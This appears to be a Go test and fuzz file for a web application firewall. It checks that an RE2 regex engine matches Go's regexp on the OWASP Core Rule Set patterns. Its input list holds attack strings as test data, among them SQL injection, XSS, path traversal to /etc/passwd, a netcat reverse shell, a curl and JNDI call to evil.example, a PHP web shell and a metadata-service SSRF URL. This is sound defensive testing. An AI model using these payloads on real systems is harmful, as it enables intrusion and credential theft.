//go:build re2_cgo

package waf

import (
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// crsPatterns are the arguments of every @rx in the CRS, as Coraza's
// parser hands them to the operator: a WAF is built with a spy standing
// in for the operator, then the operator is put back.
var crsPatterns = sync.OnceValues(func() ([]string, error) {
	var mu sync.Mutex
	var seen []string
	plugins.RegisterOperator("rx", func(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
		mu.Lock()
		seen = append(seen, o.Arguments)
		mu.Unlock()
		return newRxOperator(o)
	})
	defer plugins.RegisterOperator("rx", newRxOperator)
	_, err := New(Options{Paranoia: 4, Threshold: 5, BodyLimit: 1 << 20})
	slices.Sort(seen)
	return slices.Compact(seen), err
})

// rxInputs are values the rules meet: benign API data, attacks of each
// family the CRS covers, and bytes that are not UTF-8.
var rxInputs = []string{
	"", "a", "jane.doe@example.com", "Widget, brushed steel", "WID-0037", "12.5", "c-8f14e45f",
	"Please leave the parcel with the neighbour at number 14 if nobody is home.",
	"application/json", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"/api/v1/items?page=2&sort=name", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "Drop Table Lamp (oak)",
	"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --",
	"1 AND SLEEP(5)", "admin'/*", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"javascript:alert(document.cookie)", "<svg/onload=alert(1)>", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
	"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x)", "`id`",
	"${jndi:ldap://evil.example/a}", "{{7*7}}", "<?php system($_GET['c']); ?>", "() { :; }; /bin/bash -c id",
	"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "http://169.254.169.254/latest/meta-data/",
	"line one\nline two\r\nSELECT * FROM t", "\x00\x01\x02", "\xff<script>alert(1)</script>", "caf\xc3", "\xc3\xa9t\xe9",
	"' or 1=1 \xfe--", "ＳＥＬＥＣＴ", strings.Repeat("a", 5000) + "<script>",
}

// TestRE2MatchesGo holds RE2 to Go's regexp, the engine of stock Coraza's
// @rx, on every CRS pattern and every input: the same verdict and the
// same capture groups, so the rules behave as the CRS project tests them.
func TestRE2MatchesGo(t *testing.T) {
	patterns, err := crsPatterns()
	if err != nil {
		t.Fatal(err)
	}
	if len(patterns) < 200 {
		t.Fatalf("only %d @rx patterns found in the CRS", len(patterns))
	}
	for _, p := range patterns {
		op, err := newRxOperator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			t.Fatalf("%q: %v", p, err)
		}
		want := regexp.MustCompile(rxFlags + p)
		if bytePattern(p) {
			continue // binaryregexp, as in Coraza: no second engine to compare
		}
		for _, in := range rxInputs {
			tx := &captures{on: true}
			got := op.Evaluate(tx, in)
			loc := want.FindStringSubmatchIndex(in)
			if got != (loc != nil) {
				t.Errorf("%q on %q: re2 %v, go %v", p, in, got, loc != nil)
				continue
			}
			for i := 0; i < len(loc)/2 && i < 9; i++ {
				w := ""
				if loc[2*i] >= 0 {
					w = in[loc[2*i]:loc[2*i+1]]
				}
				if tx.fields[i] != w {
					t.Errorf("%q on %q: group %d re2 %q, go %q", p, in, i, tx.fields[i], w)
				}
			}
		}
	}
}

// FuzzRE2MatchesGo: for any input, RE2 and Go's regexp agree on the CRS
// patterns (the verdict and group 0).
func FuzzRE2MatchesGo(f *testing.F) {
	for _, in := range rxInputs {
		f.Add(in)
	}
	patterns, err := crsPatterns()
	if err != nil {
		f.Fatal(err)
	}
	type pair struct {
		op plugintypes.Operator
		re *regexp.Regexp
	}
	var pairs []pair
	for _, p := range patterns {
		if bytePattern(p) {
			continue
		}
		op, err := newRxOperator(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			f.Fatal(err)
		}
		pairs = append(pairs, pair{op, regexp.MustCompile(rxFlags + p)})
	}
	f.Fuzz(func(t *testing.T, in string) {
		for _, pr := range pairs {
			tx := &captures{on: true}
			got := pr.op.Evaluate(tx, in)
			loc := pr.re.FindStringIndex(in)
			if got != (loc != nil) || (got && tx.fields[0] != in[loc[0]:loc[1]]) {
				t.Fatalf("%q on %q: re2 %v %q, go %v", pr.re, in, got, tx.fields[0], loc)
			}
		}
	})
}
